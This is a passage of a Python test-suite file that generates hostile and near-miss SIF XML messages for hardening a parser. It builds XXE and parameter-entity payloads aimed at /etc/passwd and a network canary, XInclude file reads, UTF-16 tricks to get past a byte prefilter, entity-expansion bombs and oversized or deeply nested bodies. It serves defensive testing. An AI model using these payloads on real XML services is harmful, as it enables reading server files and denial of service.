    A("doctype-after-5k-comment", "DOCTYPE beyond the first 4 KB", utf8(_attack_doc("<!--" + "c" * 5000 + "-->" + ext_file)),
      prefilter=True)
    A("doctype-after-5k-whitespace-comment", "whitespace then a 5 KB comment then DOCTYPE",
      utf8(_attack_doc("\n" * 10 + "<!--" + " " * 5000 + "-->" + ext_net)), prefilter=True)
    # UTF-16: the byte scan cannot see '<!DOCTYPE'; libxml2 parses the prolog.
    A("utf16-doctype-external-file", "UTF-16 DOCTYPE SYSTEM on a local file", utf16(_attack_doc(ext_file, "&leak;", decl=decl16)))
    A("utf16-doctype-external-network", "UTF-16 DOCTYPE SYSTEM on the canary", utf16(_attack_doc(ext_net, decl=decl16)))
    A("utf16be-doctype-external-file", "UTF-16BE DOCTYPE SYSTEM on a local file",
      utf16(_attack_doc(ext_file, decl='<?xml version="1.0" encoding="UTF-16BE"?>'), big_endian=True))
    A("utf16-xxe-file", "UTF-16 external entity on the sentinel", utf16(_attack_doc(xxe_file, "&xxe;", decl=decl16)))
    A("utf16-xxe-etc-passwd", "UTF-16 external entity on /etc/passwd", utf16(_attack_doc(xxe_passwd, "&xxe;", decl=decl16)))
    A("utf16-xxe-network", "UTF-16 external entity on the canary", utf16(_attack_doc(xxe_canary, "&xxe;", decl=decl16)))
    A("utf16-parameter-entity-file", "UTF-16 external parameter entity from a file",
      utf16(_attack_doc(pe_file, "&leak;", decl=decl16)))
    A("utf16-parameter-entity-network", "UTF-16 external parameter entity on the canary", utf16(_attack_doc(pe_canary, decl=decl16)))
    A("utf16-billion-laughs", "UTF-16 nested entity expansion", utf16(_attack_doc(lol, lol_ref, decl=decl16)), heavy=True)
    A("utf16-quadratic-blowup", "UTF-16 100 KB entity x 20,000", utf16(_attack_doc(quad, quad_ref, decl=decl16)), heavy=True)
    A("utf16-internal-subset-only", "UTF-16 internal subset, no entities", utf16(_attack_doc(internal_only, decl=decl16)))
    A("utf16-attlist-default-injection", "UTF-16 ATTLIST default", utf16(_attack_doc(attlist, decl=decl16)))
    # Things that are not DTDs.
    A("undefined-entity-no-dtd", "a general entity reference with no DTD", utf8(_attack_doc("", "&xxe;")))
    A("cdata-with-entity-declaration-text", "'<!ENTITY' inside CDATA is refused by the byte scan (conservative)",
      utf8(_attack_doc("", '<![CDATA[<!ENTITY x "y">]]>')), prefilter=True)
    A("cdata-hiding-end-tag", "CDATA makes '</SIF_MsgId>' text: the GUID gains characters",
      lambda env: valid(ACK).replace(b"<SIF_MsgId>", b"<SIF_MsgId><![CDATA[</SIF_MsgId>]]>", 1), INVALID_VALUE)
    A("cdata-in-element-only-content", "CDATA text directly inside SIF_Header",
      lambda env: valid(ACK).replace(b"<SIF_Header>", b"<SIF_Header><![CDATA[x]]>", 1), GENERIC_VALIDATION)
    A("cdata-nested", "']]>' ends CDATA early; the rest is not well-formed",
      lambda env: valid(ACK).replace(b"<SIF_SourceId>", b"<SIF_SourceId><![CDATA[a<![CDATA[b]]>c]]>", 1))
    A("cdata-outside-root", "CDATA before the document element",
      lambda env: b"<![CDATA[x]]>" + valid(ACK))
    A("xinclude-in-objectdata", "xi:include in SIF_ObjectData is not a SIF object",
      lambda env: valid(VALID_RESP).replace(
          b"<SIF_ObjectData>",
          b'<SIF_ObjectData><xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="'
          + env.sentinel_uri.encode() + b'" parse="text"/>', 1), GENERIC_VALIDATION)
    A("xinclude-etc-passwd-in-objectdata", "xi:include of /etc/passwd in SIF_ObjectData",
      lambda env: valid(VALID_RESP).replace(
          b"<SIF_ObjectData>",
          b'<SIF_ObjectData><xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="/etc/passwd" parse="text"/>', 1),
      GENERIC_VALIDATION)
    A("xinclude-in-header", "xi:include as a header child",
      lambda env: valid(ACK).replace(
          b"</SIF_Header>",
          b'<xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="' + env.sentinel_uri.encode() + b'"/></SIF_Header>', 1),
      GENERIC_VALIDATION)
    A("xinclude-in-locator", "xi:include inside StudentLocator",
      lambda env: valid(VALID_RESP).replace(
          b"<StateProvinceId>",
          b'<xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="' + env.sentinel_uri.encode() + b'"/><StateProvinceId>', 1),
      GENERIC_VALIDATION)
    A("xinclude-in-sourceid", "xi:include inside SIF_SourceId (a simple type)",
      lambda env: valid(ACK).replace(
          b"<SIF_SourceId>",
          b'<SIF_SourceId><xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="' + env.sentinel_uri.encode()
          + b'" parse="text"/>', 1), GENERIC_VALIDATION)
    A("xinclude-network-in-eventobject", "xi:include of the canary as the event object",
      lambda env: valid(EVENT_SP).replace(
          b'Action="Add">',
          b'Action="Add"><xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="' + env.canary_url.encode() + b'xi"/>', 1),
      GENERIC_VALIDATION)
    # Depth, width and size.
    def deep(n: int, closed: bool = True, inside: bytes = b"<SIF_Status>"):
        def make(env):
            data = valid(ACK)
            nest = b"<d>" * n + (b"</d>" * n if closed else b"")
            return data.replace(inside, nest + inside, 1)
        return make

    A("deep-nesting-10000", "10,000 nested elements (libxml2 depth limit 256)", deep(10_000), heavy=True)
    A("deep-nesting-300", "just past libxml2's depth limit", deep(300))
    A("deep-nesting-unclosed-1m", "1,000,000 open tags, never closed", deep(1_000_000, closed=False), heavy=True)
    A("deep-nesting-in-extended-element", "300 levels inside a lax SIF_ExtendedElement",
      lambda env: valid(EXAMPLE).replace(b'Name="AdmissionReason">', b'Name="AdmissionReason">' + b"<d>" * 300 + b"</d>" * 300, 1))

    A("huge-text-node", "3.9 MB SIF_Desc (limit 1024 characters)",
      lambda env: valid(ERR_RESP).replace(b"<SIF_Desc>", b"<SIF_Desc>" + b"A" * 3_900_000, 1), INVALID_VALUE, heavy=True)
    A("huge-guid-text", "3.9 MB SIF_MsgId", lambda env: valid(ACK).replace(b"<SIF_MsgId>", b"<SIF_MsgId>" + b"F" * 3_900_000, 1),
      INVALID_VALUE, heavy=True)
    A("huge-attribute-value", "3.9 MB TransactionId attribute",
      lambda env: valid(VALID_RESP).replace(b'TransactionId="', b'TransactionId="' + b"A" * 3_900_000, 1), INVALID_VALUE, heavy=True)
    A("huge-unknown-attribute", "3.9 MB value of an attribute SIF does not have",
      lambda env: valid(ACK).replace(b'Version="2.6"', b'Version="2.6" Junk="' + b"j" * 3_900_000 + b'"', 1),
      GENERIC_VALIDATION, heavy=True)
    A("huge-version-attribute", "3 MB Version attribute that looks like a version",
      lambda env: valid(ACK).replace(b'Version="2.6"', b'Version="2.' + b"1" * 3_000_000 + b'"', 1),
      VERSION_NOT_SUPPORTED, heavy=True)
    A("oversize-by-one-byte", "DEFAULT_MAX_BYTES + 1, padded with spaces after the root",
      lambda env: valid(ACK) + b" " * (DEFAULT_MAX_BYTES + 1 - len(valid(ACK))), heavy=True, prefilter=True)
    A("oversize-16mb", "16 MB body", lambda env: valid(ACK) + b"\n" * (16 * 1024 * 1024), heavy=True, prefilter=True)
    A("oversize-billion-laughs", "oversize body that is also an entity bomb",
      utf8(lambda env: _attack_doc(lol, lol_ref)(env) + " " * DEFAULT_MAX_BYTES), heavy=True, prefilter=True)
    A("oversize-deep-nesting", "oversize body of open tags", lambda env: b"<d>" * (DEFAULT_MAX_BYTES // 3 + 1), heavy=True,
      prefilter=True)
    A("many-attributes", "20,000 attributes on SIF_Header", lambda env: _many_attributes(20_000), GENERIC_VALIDATION)
    A("many-invalid-objects", "2,000 StudentLocators, each with two bad attribute values",
      lambda env: _many_bad_locators(2_000), INVALID_VALUE)
    A("many-namespace-declarations", "5,000 namespace declarations on SIF_Message, one used attribute",
      lambda env: valid(ACK).replace(b'Version="2.6"', b" ".join(b'xmlns:p%d="urn:p%d"' % (i, i) for i in range(5_000))
                                     + b' p1:x="1" Version="2.6"', 1), GENERIC_VALIDATION)
    A("many-unknown-children", "100,000 unknown elements in SIF_Status",
      lambda env: valid(ACK).replace(b"<SIF_Status>", b"<SIF_Status>" + b"<J/>" * 100_000, 1), GENERIC_VALIDATION)
    A("duplicate-attributes-many", "1,000 copies of one attribute",
      lambda env: valid(ACK).replace(b"<SIF_Header>", b"<SIF_Header" + b" a='1'" * 1000 + b">", 1))
    A("long-element-name-1000", "a 1,000-character element name in SIF_Header",
      lambda env: valid(ACK).replace(b"</SIF_Header>", b"<" + b"N" * 1000 + b"/></SIF_Header>", 1), GENERIC_VALIDATION)
    A("long-element-name-60000", "60,000-character name exceeds libxml2's name limit",
      lambda env: valid(ACK).replace(b"</SIF_Header>", b"<" + b"N" * 60_000 + b"/></SIF_Header>", 1))
    A("long-body-element-name", "a 5,000-character message element name",
      lambda env: valid(ACK).replace(b"<SIF_Ack>", b"<SIF_" + b"A" * 5000 + b">", 1).replace(b"</SIF_Ack>", b"</SIF_" + b"A" * 5000 + b">", 1),
      MESSAGE_NOT_SUPPORTED)
    A("long-attribute-name", "a 10,000-character attribute name",
      lambda env: valid(ACK).replace(b'Version="2.6"', b'Version="2.6" ' + b"a" * 10_000 + b'="1"', 1), GENERIC_VALIDATION)
    return cases


def _many_attributes(n: int) -> bytes:
    return valid(ACK).replace(b"<SIF_Header>", b"<SIF_Header " + b" ".join(b"a%d=''" % i for i in range(n)) + b">", 1)


def _many_bad_locators(n: int) -> bytes:
    data = valid(VALID_RESP)
    start, end = data.index(b"<StudentLocator "), data.index(b"</SIF_ObjectData>")
    bad = b'<StudentLocator IdStatus="X" TransactionId="x"><StateProvinceId/></StudentLocator>'
    return data[:start] + bad * n + data[end:]


def hostile_cases() -> list[Case]:
    return (_truncation() + _encoding() + _not_xml() + _envelope() + _missing() + _value() + _structure() + _attacks())


# ---------------------------------------------------------------------------
# Near misses that must be accepted


def accepted_cases() -> list[Case]:
    OK = lambda i, why, make: Case(f"accept-{i}", "accepted", None, why, make)  # noqa: E731
    ack = valid(ACK)
    ack_s = ack.decode()
    cases = [OK(f"sample-{kind}", f"valid {kind} (control)", m_valid(kind))
             for kind in (ACK, EXAMPLE, COND, AMBIG, REG, EVENT_SP, "ack-getmessage-with-message", "cancelrequests")]
    cases += [
        OK("prefixed-root", "sif:SIF_Message with a prefix bound to the SIF namespace",
           m_bytes(ack.replace(b'<SIF_Message xmlns="' + NS.encode() + b'"',
                               b'<sif:SIF_Message xmlns:sif="' + NS.encode() + b'" xmlns="' + NS.encode() + b'"', 1)
                   .replace(b"</SIF_Message>", b"</sif:SIF_Message>"))),
        OK("xsi-schemalocation-http", "xsi:schemaLocation is a hint: accepted and never fetched",
           lambda env: ack.replace(b'Version="2.6"', b'xmlns:xsi="' + XSI.encode() + b'" xsi:schemaLocation="' + NS.encode()
                                   + b" " + env.canary_url.encode() + b'sif.xsd" Version="2.6"', 1)),
        OK("xsi-nonamespaceschemalocation-file", "xsi:noNamespaceSchemaLocation on a local file: never read",
           lambda env: ack.replace(b'Version="2.6"', b'xmlns:xsi="' + XSI.encode() + b'" xsi:noNamespaceSchemaLocation="'
                                   + env.sentinel_uri.encode() + b'" Version="2.6"', 1)),
        OK("xinclude-in-extended-element", "xi:include in a lax SIF_ExtendedElement is kept as data, never processed",
           lambda env: valid(EXAMPLE).replace(
               b'Name="AdmissionReason">1',
               b'Name="AdmissionReason"><xi:include xmlns:xi="' + XINCLUDE.encode() + b'" href="' + env.sentinel_uri.encode()
               + b'" parse="text"/>', 1)),
        OK("cdata-wrapped-guid", "a GUID inside CDATA is the same GUID",
           lambda env: ack.replace(b"<SIF_MsgId>", b"<SIF_MsgId><![CDATA[", 1).replace(b"</SIF_MsgId>", b"]]></SIF_MsgId>", 1)),
        OK("escaped-markup-in-desc", "&lt;!ENTITY as escaped text is harmless",
           m_replace(ERR_RESP, b"<SIF_Desc>", b"<SIF_Desc>&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt; ")),
        OK("comments-and-pis-everywhere", "comments and PIs are dropped",
           m_bytes(b"<!-- a --><?pi x?>" + ack.replace(b"<SIF_Header>", b"<SIF_Header><!-- b --><?pi y?>", 1) + b"<!-- c -->")),
        OK("latin1-declared", "ISO-8859-1 declared and used",
           lambda env: b'<?xml version="1.0" encoding="ISO-8859-1"?>'
           + valid(EXAMPLE).replace(b"Columbus", "Bogotá".encode("latin-1"), 1)),
        OK("utf16-with-bom", "UTF-16 with BOM and declaration",
           lambda env: ('<?xml version="1.0" encoding="UTF-16"?>' + ack_s).encode("utf-16")),
        OK("utf8-bom", "UTF-8 with BOM", m_bytes(b"\xef\xbb\xbf" + ack)),
        OK("short-leading-whitespace", "a few blank lines before the root", m_bytes(b"\n\n  " + ack)),
        OK("long-leading-whitespace", "600 bytes of whitespace before the root (well-formed XML)", m_bytes(b" " * 600 + ack)),
        OK("apos-entity", "predefined entities such as &apos; are not DTD entities",
           m_replace(COND, b'Name[@Type="04"]/LastName', b"Name[@Type=&apos;04&apos;]/LastName")),
        OK("nesting-240-in-extended-element", "deep but under libxml2's limit, inside a lax extension",
           m_replace(EXAMPLE, b'Name="AdmissionReason">1', b'Name="AdmissionReason">' + b"<d>" * 240 + b"</d>" * 240)),
        OK("exactly-max-bytes", "a body of exactly DEFAULT_MAX_BYTES is read",
           lambda env: ack + b" " * (DEFAULT_MAX_BYTES - len(ack))),
    ]
    return cases


def resource_cases() -> list[Case]:
    """Larger versions of width attacks, used only by the memory test (not counted above).

    Still well under DEFAULT_MAX_BYTES: whatever fits under the size cap must be
    refused in bounded memory.
    """
    return [
        Case("resource-many-attributes-100k", "attack", GENERIC_VALIDATION,
             "100,000 unknown attributes on SIF_Header (1 MB body)", lambda env: _many_attributes(100_000), heavy=True),
    ]
